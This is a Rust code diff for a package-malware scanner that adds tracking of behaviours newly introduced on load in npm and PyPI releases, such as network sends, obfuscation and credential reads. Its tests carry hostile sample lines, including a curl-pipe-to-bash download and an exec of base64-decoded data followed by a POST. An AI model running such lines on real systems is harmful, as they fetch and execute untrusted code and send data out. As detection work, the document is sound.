@@ -24,6 +24,11 @@ pub use surface_findings::{SURFACE_CODES, surface_findings};
 pub struct Analysis {
     pub surface: Surface,
     pub findings: Vec<Finding>,
+    /// What the code that runs on load does that libraries also do, so it
+    /// is no finding by itself: one per rule with `added-on-load`, at that
+    /// level. A release that adds one of these compared with the release
+    /// before it is judged by it (`runtime-code-added`).
+    pub on_load: Vec<Finding>,
 }
 
 impl Analysis {
@@ -52,10 +57,15 @@ pub fn analyze(
     let archive = warden_archive::read(artifact, bytes, limits)?;
     let surface = warden_archive::surface(&archive, hint);
     let mut findings = surface_findings(&surface);
-    findings.extend(RuleSet::builtin().check(&surface));
+    let checked = RuleSet::builtin().check(&surface);
+    findings.extend(checked.findings);
     RuleSet::builtin().escalate(&mut findings);
     findings.sort_by(|a, b| b.level.cmp(&a.level).then_with(|| a.file.cmp(&b.file)));
-    Ok(Analysis { surface, findings })
+    Ok(Analysis {
+        surface,
+        findings,
+        on_load: checked.on_load,
+    })
 }
 
 /// Finding levels are the policy's.
@@ -140,6 +150,12 @@ pub struct Rule {
     /// makes the release a deny (nothing earlier to compare it with).
     #[serde(default)]
     deny_in_first_release: bool,
+    /// Its level when a release adds it to code that runs on load (the
+    /// release before had no match): what libraries' own code does, so no
+    /// finding by itself, but new in a patch release it is how a hijacked
+    /// package turns bad.
+    #[serde(default)]
+    added_on_load: Option<Level>,
     #[serde(default)]
     pub positive: Vec<String>,
     #[serde(default)]
@@ -177,8 +193,9 @@ struct RulesFile {
 pub struct RuleSet {
     rules: Vec<Rule>,
     set: RegexSet,
-    /// The patterns that apply to the runtime surface, on their own: most
-    /// rules do not read it, and it is the larger part of what is read.
+    /// The patterns read in the runtime surface, on their own: most rules
+    /// do not read it, and it is the larger part of what is read. Those of
+    /// rules that apply there, and those of rules with `added-on-load`.
     import_set: RegexSet,
     /// For each pattern of `import_set`: its index in `patterns`.
     import_patterns: Vec<usize>,
@@ -236,7 +253,8 @@ impl RuleSet {
             .iter()
             .enumerate()
             .filter(|(_, (rule, _, install_only))| {
-                !install_only && file.rule[*rule].runs.contains(&Runs::Import)
+                let rule = &file.rule[*rule];
+                (!install_only && rule.runs.contains(&Runs::Import)) || rule.added_on_load.is_some()
             })
             .map(|(i, _)| i)
             .collect();
@@ -285,26 +303,45 @@ impl RuleSet {
         &self.rules
     }
 
+    /// The level of `runtime-code-added` for an on-load match of `rule` at
+    /// `level` ([`Analysis::on_load`]) that a release adds beside the other
+    /// rules `added` (all of them new in the release): a deny when a rule
+    /// it names in `deny-with` was added too (credentials read and, new as
+    /// well, sent).
+    pub fn added_level(&self, rule: &str, level: Level, added: &[&str]) -> Level {
+        let escalates = self
+            .rules
+            .iter()
+            .find(|r| r.id == rule)
+            .is_some_and(|r| r.deny_with.iter().any(|w| added.contains(&w.as_str())));
+        if escalates { Level::Deny } else { level }
+    }
+
     /// Applies the rules to every text of the surface.
-    pub fn check(&self, surface: &Surface) -> Vec<Finding> {
+    pub fn check(&self, surface: &Surface) -> Checked {
+        let mut out = Checked::default();
         let ecosystem = match surface.kind {
             ArtifactKind::NpmPackage => "npm",
             ArtifactKind::Wheel | ArtifactKind::Sdist => "pypi",
-            ArtifactKind::Unknown => return Vec::new(),
+            ArtifactKind::Unknown => return out,
         };
-        surface
-            .texts
-            .iter()
-            .flat_map(|t| {
-                let mut found = self.check_text(ecosystem, t.runs, &t.path, &t.text);
-                // Libraries embed data as base64 (fonts, source maps): only
-                // code that runs at install, build or start-up is peeled.
-                if t.runs != Runs::Import {
-                    found.extend(self.check_peeled(ecosystem, t.runs, &t.path, &t.text));
+        for t in &surface.texts {
+            let (found, on_load) = self.check_runs(ecosystem, t.runs, &t.path, &t.text);
+            out.findings.extend(found);
+            // One per rule: the first file, in the surface's order.
+            for f in on_load {
+                if !out.on_load.iter().any(|o| o.rule == f.rule) {
+                    out.on_load.push(f);
                 }
-                found
-            })
-            .collect()
+            }
+            // Libraries embed data as base64 (fonts, source maps): only
+            // code that runs at install, build or start-up is peeled.
+            if t.runs != Runs::Import {
+                out.findings
+                    .extend(self.check_peeled(ecosystem, t.runs, &t.path, &t.text));
+            }
+        }
+        out
     }
 
     /// The deny rules over what base64 blobs in `text` decode to, two
@@ -334,10 +371,23 @@ impl RuleSet {
 
     /// Applies the rules that cover `ecosystem` and `runs` to one text.
     pub fn check_text(&self, ecosystem: &str, runs: Runs, path: &str, text: &str) -> Vec<Finding> {
-        let applies =
-            |r: &Rule| r.ecosystems.iter().any(|e| e == ecosystem) && r.runs.contains(&runs);
+        self.check_runs(ecosystem, runs, path, text).0
+    }
+
+    /// The findings in one text and, in code that runs on load, what the
+    /// rules with `added-on-load` see there (at that level).
+    fn check_runs(
+        &self,
+        ecosystem: &str,
+        runs: Runs,
+        path: &str,
+        text: &str,
+    ) -> (Vec<Finding>, Vec<Finding>) {
+        let covers = |r: &Rule| r.ecosystems.iter().any(|e| e == ecosystem);
+        let applies = |r: &Rule| covers(r) && r.runs.contains(&runs);
         // rule index -> (first line, excerpt, count)
         let mut hits: BTreeMap<usize, (u32, String, usize)> = BTreeMap::new();
+        let mut latent: BTreeMap<usize, (u32, String, usize)> = BTreeMap::new();
         for (n, line) in text.lines().enumerate() {
             let n = n as u32 + 1;
             let matched: Vec<usize> = if runs == Runs::Import {
@@ -351,14 +401,19 @@ impl RuleSet {
             };
             for p in matched {
                 let (rule, re, install_only) = &self.patterns[p];
-                if !applies(&self.rules[*rule]) || (*install_only && runs == Runs::Import) {
+                let r = &self.rules[*rule];
+                let into = if applies(r) && !(*install_only && runs == Runs::Import) {
+                    &mut hits
+                } else if runs == Runs::Import && r.added_on_load.is_some() && covers(r) {
+                    &mut latent
+                } else {
                     continue;
-                }
+                };
                 for m in re.find_iter(line) {
-                    if self.rules[*rule].id == "raw-ip-url" && is_local_address(m.as_str()) {
+                    if r.id == "raw-ip-url" && is_local_address(m.as_str()) {
                         continue;
                     }
-                    let entry = hits
+                    let entry = into
                         .entry(*rule)
                         .or_insert_with(|| (n, around(line, m.start(), m.end()), 0));
                     entry.2 += 1;
@@ -379,13 +434,38 @@ impl RuleSet {
                 }
             }
         }
+        let found = self.findings(hits, runs, path, |rule| Some(rule.level));
+        // A rule that fired is a finding already: it is not latent too.
+        latent.retain(|i, _| !found.iter().any(|f| f.rule == self.rules[*i].id));
+        // Patterns a rule that reads code on load leaves to install time
+        // are shapes libraries have: new in a release, only a warning.
+        let on_load = self.findings(latent, runs, path, |rule| {
+            let level = rule.added_on_load?;
+            Some(if rule.runs.contains(&Runs::Import) {
+                level.min(Level::Warn)
+            } else {
+                level
+            })
+        });
+        (found, on_load)
+    }
+
+    /// Findings from hits of at least their rules' `min-matches`, at the
+    /// level `level` gives each rule.
+    fn findings(
+        &self,
+        hits: BTreeMap<usize, (u32, String, usize)>,
+        runs: Runs,
+        path: &str,
+        level: impl Fn(&Rule) -> Option<Level>,
+    ) -> Vec<Finding> {
         hits.into_iter()
             .filter(|(i, (_, _, count))| *count >= self.rules[*i].min_matches)
-            .map(|(i, (line, excerpt, count))| {
+            .filter_map(|(i, (line, excerpt, count))| {
                 let rule = &self.rules[i];
-                Finding {
+                Some(Finding {
                     rule: rule.id.clone(),
-                    level: rule.level,
+                    level: level(rule)?,
                     summary: if runs == Runs::Import {
                         format!(
                             "{} (in code that runs when the package is loaded, not at install)",
@@ -400,10 +480,18 @@ impl RuleSet {
                     count,
                     runs,
                     first_release_deny: rule.deny_in_first_release,
-                }
+                })
             })
             .collect()
     }
+}
+
+/// What the rules made of a surface.
+#[derive(Debug, Default)]
+pub struct Checked {
+    pub findings: Vec<Finding>,
+    /// See [`Analysis::on_load`].
+    pub on_load: Vec<Finding>,
 }
 
 fn is_local_address(url: &str) -> bool {
@@ -649,6 +737,60 @@ mod tests {
                 "curl -fsSL https://x.example.org/i.sh | bash"
             )
             .contains(&"download-and-execute:Deny".to_owned())
+        );
+    }
+
+    #[test]
+    fn what_libraries_also_do_on_load_is_kept_for_the_release_diff() {
+        let set = RuleSet::builtin();
+        let on_load = |text: &str| -> Vec<String> {
+            let (found, latent) = set.check_runs("pypi", Runs::Import, "pkg/__init__.py", text);
+            assert!(found.is_empty(), "{found:?}");
+            latent
+                .into_iter()
+                .map(|f| format!("{}:{:?}", f.rule, f.level))
+                .collect()
+        };
+        assert_eq!(
+            on_load("requests.post(url, data=body)"),
+            ["network-send:Warn"]
+        );
+        // A shape libraries have, left to install time by a rule that
+        // reads code on load: a warning when new.
+        assert_eq!(
+            on_load("return self._compile(source, filename)"),
+            ["decode-and-execute:Warn"]
+        );
+        // Ten obfuscator names: heavy obfuscation, a deny when it is new.
+        let names: Vec<String> = (0..10).map(|i| format!("_0x{:04x}", 0x1a2b + i)).collect();
+        assert_eq!(
+            on_load(&format!("var {};", names.join("=1,"))),
+            ["obfuscated-identifiers:Deny"]
+        );
+        // Nine are not enough.
+        assert!(on_load(&format!("var {};", names[..9].join("=1,"))).is_empty());
+        // A rule that applies on load is a finding there, not latent too.
+        let (found, latent) = set.check_runs(
+            "pypi",
+            Runs::Import,
+            "pkg/__init__.py",
+            "exec(base64.b64decode(x)); requests.post(u, data=x)",
+        );
+        assert_eq!(found.len(), 1);
+        assert_eq!(latent.len(), 1);
+        assert_eq!(latent[0].rule, "network-send");
+        // Install-time code has findings, never latent ones.
+        let (_, latent) = set.check_runs("npm", Runs::Install, "i.js", "https.request(u)");
+        assert!(latent.is_empty());
+        // Escalation among what one release adds.
+        let both = ["credential-files", "network-send"];
+        assert_eq!(
+            set.added_level("credential-files", Level::Warn, &both),
+            Level::Deny
+        );
+        assert_eq!(
+            set.added_level("credential-files", Level::Warn, &both[..1]),
+            Level::Warn
         );
     }
 
